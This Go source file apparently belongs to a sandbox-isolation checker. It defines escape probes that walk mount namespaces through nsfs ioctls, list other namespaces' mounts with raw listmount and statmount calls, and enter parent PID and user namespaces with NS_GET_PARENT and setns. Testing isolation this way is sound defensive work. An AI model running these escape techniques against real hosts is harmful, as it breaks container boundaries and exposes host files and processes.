// SPDX-License-Identifier: Apache-2.0

//go:build linux

package main

import (
	"unsafe"

	"golang.org/x/sys/unix"
)

func namespaceAttacks() []attack {
	return []attack{
		{
			"mount-namespace-list", "goes from its mount namespace to the others (NS_MNT_GET_PREV and NEXT, Linux 6.12) and enters each",
			"every file of the host", mountNamespaceList,
		},
		{
			"mount-list", "lists the mounts of other mount namespaces by their ids (listmount and statmount, Linux 6.11)",
			"paths and disks of the host", mountList,
		},
		{
			"process-namespace-parent", "asks for the parent of its PID namespace (NS_GET_PARENT) and enters it",
			"processes of the host", func(*world) finding { return namespaceParent("pid", unix.CLONE_NEWPID) },
		},
		{
			"user-namespace-parent", "asks for the parent of its user namespace (NS_GET_PARENT) and enters it",
			"the host's root", func(*world) finding { return namespaceParent("user", unix.CLONE_NEWUSER) },
		},
	}
}

// The calls about namespaces (linux/nsfs.h): _IO(0xb7, 2), _IOR(0xb7, 11, struct mnt_ns_info), _IOR(0xb7, 12, struct
// mnt_ns_info).
const (
	nsGetParent = 0xb702
	nsMountNext = 0x8010b70b
	nsMountPrev = 0x8010b70c
)

// mountNamespace is struct mnt_ns_info.
type mountNamespace struct {
	size, mounts uint32
	id           uint64
}

// otherNamespaces opens the mount namespaces that the kernel shows, and says why it does not show more.
func otherNamespaces() (map[uint64]int, ways) {
	var tried ways
	found := map[uint64]int{}
	own, err := unix.Open("/proc/self/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		tried.add("opening its own mount namespace", err)
		return found, tried
	}
	const most = 500
	for _, direction := range []struct {
		name string
		call uintptr
	}{{"the one before", nsMountPrev}, {"the one after", nsMountNext}} {
		at := own
		for range most {
			info := mountNamespace{size: 16}
			next, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(at), direction.call, uintptr(unsafe.Pointer(&info))) //nolint:gosec // G103: that is how it is called
			if errno == unix.ENOTTY || errno == unix.EINVAL {
				errno = unix.ENOSYS
			}
			if errno != 0 { // the last one ends with ENOENT
				tried.add("asking for "+direction.name, errno)
				break
			}
			at = int(next)
			found[info.id] = at
		}
	}
	return found, tried
}

func mountNamespaceList(w *world) finding {
	found, tried := otherNamespaces()
	for _, fd := range found {
		if err := unix.Setns(fd, unix.CLONE_NEWNS); err != nil {
			tried.add("entering another mount namespace", err)
			continue
		}
		if f := w.fromHere("another mount namespace of the kernel's list"); f.token != "" {
			return f
		}
		tried.add("the host's file is not in another mount namespace", unix.ENOENT)
	}
	return tried.finding()
}

// mountRequest is struct mnt_id_req (linux/mount.h).
type mountRequest struct {
	size, spare      uint32
	mount, parameter uint64
	mountNamespaceID uint64
}

// Calls that golang.org/x/sys has no names for, and what statmount is asked for (linux/mount.h).
const (
	sysStatmount = 457
	sysListmount = 458
	listAll      = ^uint64(0) // LSMT_ROOT
	aboutDisk    = 0x1 | 0x8  // STATMOUNT_SB_BASIC, STATMOUNT_MNT_ROOT
)

// mountList looks for a mount of the whole disk of the host: no machine has one. Ids of namespaces are given in the
// order in which they were made.
func mountList(w *world) finding {
	numbers, ok := device(w.HostDevice)
	if !ok {
		return notHere("-host-device is not given")
	}
	const most = 5_000
	var tried ways
	for namespace := range uint64(most) {
		if namespace == 0 { // stands for its own
			continue
		}
		request := mountRequest{size: uint32(unsafe.Sizeof(mountRequest{})), mount: listAll, mountNamespaceID: namespace}
		var ids [512]uint64
		n, _, errno := unix.Syscall6(sysListmount, uintptr(unsafe.Pointer(&request)), uintptr(unsafe.Pointer(&ids)), uintptr(len(ids)), 0, 0, 0) //nolint:gosec // G103: that is how it is called
		if errno != 0 {
			tried.add("listing the mounts of another namespace", errno)
			continue
		}
		for _, id := range ids[:n] {
			if isWholeDisk(namespace, id, numbers) {
				return out("the kernel told the mounts of the host's namespace %d, the whole disk %s among them", namespace, w.HostDevice)
			}
		}
		tried.add("the host's disk is not mounted in a namespace that is told of", unix.ENOENT)
	}
	return tried.finding()
}

// isWholeDisk reports whether a mount of a namespace is that of a whole disk.
func isWholeDisk(namespace, mount uint64, numbers int) bool {
	var answer [1024]byte
	request := mountRequest{size: uint32(unsafe.Sizeof(mountRequest{})), mount: mount, parameter: aboutDisk, mountNamespaceID: namespace}
	if _, _, errno := unix.Syscall6(sysStatmount, uintptr(unsafe.Pointer(&request)), uintptr(unsafe.Pointer(&answer)), uintptr(len(answer)), 0, 0, 0); errno != 0 { //nolint:gosec // G103: that is how it is called
		return false
	}
	const major, minor, root, texts = 16, 20, 104, 512 // offsets in struct statmount
	at := texts + int(le32(answer[root:]))
	return unix.Mkdev(le32(answer[major:]), le32(answer[minor:])) == uint64(numbers) && //nolint:gosec // G115: device numbers
		at+2 <= len(answer) && answer[at] == '/' && answer[at+1] == 0
}

func namespaceParent(name string, kind int) finding {
	own, err := unix.Open("/proc/self/ns/"+name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused("opening its own namespace", err)
	}
	if name == "user" && initialUser(own) {
		return notHere("the machine is in the host's user namespace")
	}
	parent, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(own), nsGetParent, 0)
	if errno != 0 {
		return refused("asking for the parent namespace", errno)
	}
	if err := unix.Setns(int(parent), kind); err != nil {
		return refused("entering the parent namespace", err)
	}
	return out("entered the parent of its %s namespace", name)
}

// initialUser reports whether a user namespace is the host's.
func initialUser(fd int) bool {
	var stat unix.Stat_t
	const initialInode = 0xEFFFFFFD // USER_NS_INIT_INO
	return unix.Fstat(fd, &stat) == nil && stat.Ino == initialInode
}
